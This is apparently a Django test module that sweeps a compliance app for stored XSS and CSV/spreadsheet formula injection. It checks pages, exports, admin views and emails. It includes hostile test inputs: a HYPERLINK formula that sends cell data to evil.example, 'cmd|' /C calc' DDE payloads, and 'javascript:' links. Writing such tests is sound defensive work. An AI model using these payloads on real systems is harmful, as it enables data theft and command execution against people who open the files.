"""Stored XSS: what people type is shown as text everywhere, never run (issue 11).

The corpus and the detector live in `tests/xss_payloads.py`. The cheap checks run every payload through
the detector and the Markdown renderers; the sweep writes a combined payload into every text field people
(or connected services) can fill, then opens every page, API answer, export and admin page of the
organisation and checks each by its type: HTML by parser, JSON is JSON, PDF and Word carry no script
links, spreadsheets no formulas, the evidence pack's index is inert.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import docx
import markdown
import pypdf
import pytest
from django.apps import apps
from django.core import mail
from django.db import models
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils.html import escape
from openpyxl import Workbook, load_workbook

from accounts.models import Channel, Notification, Organisation
from accounts.notifications import digest_send, notification_email_send, notify
from accounts.tests.factories import ApiKeyFactory, AuditEventFactory
from assessments.exports.workbook import Column, info_sheet, table_sheet, workbook_bytes
from compliance.prose import prose_html
from policies.rendering import markdown_html
from tests.isolation import app_kwarg_resolvers, build_tenant_data, discover_routes, tenant_model_by_kwarg
from tests.test_admin_isolation import TENANT_ADMINS, organisation_path, rows_of, url
from tests.xss_payloads import (
    COMBINED,
    COMBINED_FILENAME,
    COMBINED_URL,
    MARKER,
    PAYLOADS,
    SAMPLE,
    dangerous_url,
    find_live_markup,
    neutralised_cell,
)

pytestmark = pytest.mark.django_db

# Every free-text field a person, a partner or a connected service can fill, by model.
TEXT_FIELDS: dict[str, tuple[str, ...]] = {
    "accounts.Organisation": ("name",),
    "accounts.User": ("full_name",),
    "accounts.Notification": ("title", "body"),
    "accounts.WebhookEndpoint": ("description", "disabled_reason"),
    "accounts.WebhookDelivery": ("response_body", "error"),
    "accounts.ApiKey": ("name",),
    "assessments.BusinessProfile": ("company_name",),
    "assessments.AssessmentRound": ("name",),
    "assessments.Answer": ("notes", "justification"),
    "assessments.PlanTask": ("title", "description"),
    "assessments.ReportRun": ("message", "error"),
    "policies.Policy": ("title",),
    "policies.PolicyVersion": ("title", "approval_comment"),
    "policies.PolicyReview": ("comment",),
    "policies.GenerationJob": ("message", "error"),
    "evidence.Evidence": ("title", "description", "note", "reviewer_comment", "extracted_text"),
    "evidence.EvidenceRevision": ("comment",),
    "evidence.Connection": ("account_label",),
    "evidence.CollectionRun": ("error",),
    "evidence.CheckResult": ("title", "summary"),
    "chat.Conversation": ("title", "escalation_note"),
    "chat.Message": ("content", "feedback"),
    "chat.DocumentIndex": ("title", "body"),
}
URL_FIELDS = {"evidence.Evidence": ("url",), "accounts.WebhookEndpoint": ("url",)}
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"xssprobe")'
FORMULA_PAYLOADS = (
    FORMULA,
    "+1+cmd|' /C calc xssprobe'!A0",
    "-2+3+cmd|' /C calc xssprobe'!A0",
    "@SUM(1+1)*cmd|' /C calc xssprobe'!A0",
)


def _fits(field: models.Field, value: str) -> str:
    return value[: field.max_length] if field.max_length else value


def _rows(model: type[models.Model], organisation: Organisation) -> models.QuerySet[Any]:
    if model is Organisation:
        return model._default_manager.filter(pk=organisation.pk)
    if model._meta.label == "accounts.User":
        return model._default_manager.filter(memberships__organisation=organisation)
    return model._default_manager.filter(organisation=organisation)


def poison(organisation: Organisation, *, text: str = COMBINED) -> None:
    """Write the payload into every text field of the organisation's rows, as a stored attack would."""
    ApiKeyFactory(organisation=organisation)
    # Audit events are append-only: a new one carries the payload, as a renamed object's summary would.
    AuditEventFactory(organisation=organisation, actor_label=text[:254], summary=text[:500])
    for label, names in TEXT_FIELDS.items():
        model = apps.get_model(label)
        fields = [model._meta.get_field(name) for name in names]
        _rows(model, organisation).update(**{field.name: _fits(field, text) for field in fields})
    for label, names in URL_FIELDS.items():
        _rows(apps.get_model(label), organisation).update(**dict.fromkeys(names, COMBINED_URL))
    apps.get_model("evidence.EvidenceRevision").objects.filter(organisation=organisation).update(
        original_name=COMBINED_FILENAME
    )
    # Notifications link to a path; a stored script link must not become one.
    apps.get_model("accounts.Notification").objects.filter(organisation=organisation).update(
        url=f"javascript:{MARKER}()"
    )
    for version in apps.get_model("policies.PolicyVersion").objects.filter(organisation=organisation):
        version.sections = [
            {**section, "title": text, "body": f"{text}\n\n{PAYLOADS['markdown-reference']}"}
            for section in version.sections
        ]
        version.save(update_fields=["sections"])


# Payloads that stay harmless even written raw into a page: look-alikes, a relative link, UTF-7 (no page of
# ours is UTF-7), and template strings (caught by what they would evaluate to, not by markup).
INERT_ANYWHERE = frozenset(
    {"fullwidth-brackets", "overlong-utf7", "zero-width-javascript", "markdown-link-encoded", "template-debug"}
    # Python-Markdown itself links neither of these.
    | {"markdown-autolink", "markdown-title-breaker"}
)


# --- the detector and the renderers, for the whole corpus --------------------------------------------
@pytest.mark.parametrize("name", PAYLOADS)
def test_the_detector_finds_a_payload_rendered_raw_and_not_one_escaped(name):
    payload = PAYLOADS[name]
    contexts: tuple[str, ...] = (
        '<p title="{}">{}</p>',
        "<p title='{}'>x</p>",
        "<p title={}>x</p>",
        '<a href="{}">x</a>',
    )

    assert find_live_markup(f"<html><body>{escape(payload)}<input value='{escape(payload)}'></body></html>") == []
    if name in INERT_ANYWHERE:
        return
    if name.startswith("markdown-"):
        # Markdown is only dangerous once rendered: a renderer without a sanitiser must be caught.
        contexts = (str(markdown.markdown(payload)),)
    found = [find_live_markup(context.format(payload, payload)) for context in contexts]
    assert any(found), f"the detector misses {name} rendered raw"


@pytest.mark.parametrize("name", PAYLOADS)
def test_policy_markdown_and_assistant_answers_render_every_payload_inert(name):
    for rendered in (markdown_html(PAYLOADS[name]), markdown_html(f"Intro\n\n{PAYLOADS[name]}\n\nOutro")):
        assert find_live_markup(str(rendered)) == [], rendered


@pytest.mark.parametrize("name", PAYLOADS)
def test_library_prose_renders_every_payload_inert(name):
    assert find_live_markup(str(prose_html(PAYLOADS[name]))) == []


def test_script_links_are_recognised_however_they_are_spelt():
    for value in (" javascript:x", "JAVA\tSCRIPT:x", "java\u200bscript:x", "\ufeffvbscript:x", "data:text/html,x"):
        assert dangerous_url(value), value
    for value in ("https://example.com/javascript:x", "/evidence/1/", "mailto:someone@example.com"):
        assert not dangerous_url(value), value


# --- the sweep -------------------------------------------------------------------------------------
def _url(route, organisation: Organisation) -> str | None:
    by_kwarg, resolvers, kwargs = tenant_model_by_kwarg(), app_kwarg_resolvers(), {}
    for name in route.kwargs:
        if name in by_kwarg:
            row = by_kwarg[name]._default_manager.filter(organisation=organisation).order_by("pk").first()
            if row is None:
                return None
            kwargs[name] = row.pk
        elif name in resolvers:
            kwargs[name] = resolvers[name](organisation)
        else:
            return None
    try:
        return reverse(route.name, kwargs=kwargs)
    except NoReverseMatch:
        return None


def _content(response: Any) -> bytes:
    return b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content


def _check_pdf(content: bytes, where: str) -> None:
    for page in pypdf.PdfReader(io.BytesIO(content)).pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            target = str(action.get("/URI", "")) + str(action.get("/JS", ""))
            assert "/JS" not in action, f"{where} runs a script"
            assert not dangerous_url(target), f"{where} links to {target!r}"


def _check_docx(content: bytes, where: str) -> None:
    document = docx.Document(io.BytesIO(content))
    for relation in document.part.rels.values():
        if relation.is_external:
            assert not dangerous_url(relation.target_ref), f"{where} links to {relation.target_ref!r}"


def _check_csv(content: bytes, where: str) -> None:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for cell in row:
            if MARKER in cell:
                assert neutralised_cell(cell), f"{where}: a spreadsheet would run {cell!r}"


def _check_xlsx(content: bytes, where: str) -> None:
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {sheet.title}!{cell.coordinate} is a formula {cell.value!r}"


def _check_zip(content: bytes, where: str) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert MARKER not in name or "<" not in name, f"{where} holds a file named {name!r}"
            if name.endswith(".html"):
                assert find_live_markup(archive.read(name).decode()) == [], f"{where} {name}"
            elif name.endswith(".csv"):
                _check_csv(archive.read(name), f"{where} {name}")


def check_response(response: Any, where: str) -> str:
    """Check one answer by its type; returns its text when it is HTML or JSON (to count payload sightings)."""
    assert response.status_code < 500, f"{where} answered {response.status_code}"
    content_type = response.headers.get("Content-Type", "").split(";")[0].strip()
    content = _content(response)
    if content_type == "text/html":
        text = content.decode()
        assert find_live_markup(text) == [], f"{where}: {find_live_markup(text)}"
        return text
    if content_type.endswith("json"):
        assert json.loads(content or b"null") is not None or not content, where
        assert not content.lstrip().startswith(b"<"), f"{where} answered HTML as JSON"
        return content.decode()
    checks = {
        "application/pdf": _check_pdf,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document": _check_docx,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": _check_xlsx,
        "text/csv": _check_csv,
        "application/zip": _check_zip,
    }
    if content_type in checks:
        checks[content_type](content, where)
    return ""


@pytest.fixture
def poisoned(personas):
    build_tenant_data(personas.organisation, per_model=1)
    poison(personas.organisation)
    return personas


def test_every_page_api_answer_and_export_shows_stored_payloads_as_text(poisoned):
    browser = Client()
    browser.force_login(poisoned.owner)
    shown, walked = set(), 0
    for route in discover_routes():
        if not route.is_ours or route.name.startswith("admin:"):
            continue
        address = _url(route, poisoned.organisation)
        if address is None:
            continue
        text = check_response(browser.get(address), f"GET {address}")
        walked += 1
        if escape(COMBINED) in text or json.dumps(COMBINED)[1:-1] in text:
            shown.add(route.name)

    assert walked > 50
    # The payload really reached the pages that show people's words (else the sweep proves nothing).
    for name in ("dashboard", "evidence_list", "evidence_detail", "policy_detail", "policy_list"):
        assert name in shown, f"{name} never showed the payload: {sorted(shown)}"


def test_admin_pages_for_consultants_show_stored_payloads_as_text(poisoned):
    consultant = poisoned.consultant
    consultant.is_staff = True
    consultant.save(update_fields=["is_staff"])
    browser = Client()
    browser.force_login(consultant)
    for model, model_admin in TENANT_ADMINS:
        check_response(browser.get(url(model, "changelist")), f"{model._meta.label} changelist")
        row = rows_of(model, organisation_path(model_admin) or "", poisoned.organisation).order_by("pk").first()
        if row is not None:
            check_response(browser.get(url(model, "change", row.pk)), f"{model._meta.label} change")


# --- exports and emails, payload by payload ---------------------------------------------------------
@pytest.mark.parametrize("name", SAMPLE)
def test_policy_pdf_and_word_exports_keep_payloads_as_plain_text(personas, name):
    from policies.tests.factories import PolicyVersionFactory

    payload = PAYLOADS[name]
    version: Any = PolicyVersionFactory(
        organisation=personas.organisation,
        title=payload,
        sections=[{"key": "purpose", "title": payload, "body": f"{payload}\n\n[read](javascript:{MARKER}())"}],
    )
    browser = Client()
    browser.force_login(personas.owner)
    for view in ("policy_version_pdf", "policy_version_docx"):
        response = browser.get(reverse(view, kwargs={"policyversion_id": version.pk}))
        assert response.status_code == 200, view
        check_response(response, view)
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(_content(response))).paragraphs)
    assert payload.splitlines()[0][:20] in text


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_spreadsheet_exports_never_hold_a_formula_someone_typed(personas, payload):
    build_tenant_data(personas.organisation, per_model=1)
    for label, names in (("evidence.Evidence", ("title", "description", "note")), ("assessments.PlanTask", ("title",))):
        _rows(apps.get_model(label), personas.organisation).update(**dict.fromkeys(names, payload))
    _rows(apps.get_model("assessments.Answer"), personas.organisation).update(notes=payload, justification=payload)
    browser = Client()
    browser.force_login(personas.owner)
    for view in ("export_controls_csv", "export_tasks_csv", "export_evidence_csv"):
        response = browser.get(reverse(view))
        assert response.status_code == 200, view
        content = _content(response)
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        assert payload not in cells, f"{view} holds {payload!r} as it was typed"
        assert f"'{payload}" in cells or view == "export_controls_csv", f"{view} lost what was typed"


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_workbooks_keep_a_typed_formula_as_text(payload):
    workbook = Workbook()
    info_sheet(workbook, "Statement of applicability", [("Organisation", payload)])
    table_sheet(workbook, "Controls", [Column("Notes", 40)], [[payload]])
    content = workbook_bytes(workbook)

    _check_xlsx(content, "workbook")
    assert load_workbook(io.BytesIO(content))["Controls"]["A2"].value == payload


@pytest.mark.parametrize("name", SAMPLE)
def test_notification_emails_escape_what_people_typed(personas, name):
    payload = PAYLOADS[name]
    personas.organisation.name = payload[:200]
    personas.organisation.save(update_fields=["name"])
    mail.outbox.clear()

    notification = notify(
        organisation=personas.organisation,
        user=personas.owner,
        kind="task_due",
        title=payload[:200],
        body=payload,
        url=f"javascript:{MARKER}()",
        email=False,
    )
    assert notification is not None
    notification_email_send(notification_id=notification.pk)
    Notification.objects.filter(pk=notification.pk).update(channel=Channel.DIGEST)
    digest_send(user=personas.owner)

    html = [
        str(body)
        for message in mail.outbox
        for body, kind in getattr(message, "alternatives", [])
        if kind == "text/html"
    ]
    assert html, "no HTML email was sent"
    for body in html:
        assert find_live_markup(body) == [], find_live_markup(body)
